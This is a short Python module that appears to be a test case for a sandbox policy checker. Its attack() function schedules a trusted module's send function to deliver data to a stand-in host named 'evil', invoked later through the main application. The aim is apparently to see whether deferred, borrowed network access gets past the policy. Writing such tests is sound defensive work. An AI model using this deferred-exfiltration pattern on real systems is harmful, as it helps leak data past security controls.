"""The application keeps what it is given, and calls it later."""
CATEGORY = "borrowed"
REACH = "net"
POLICY = {"$walk": "strict"}

from . import payload


def attack():
    import __main__
    import good
    __main__.later(good.send, "evil", payload.PORT)
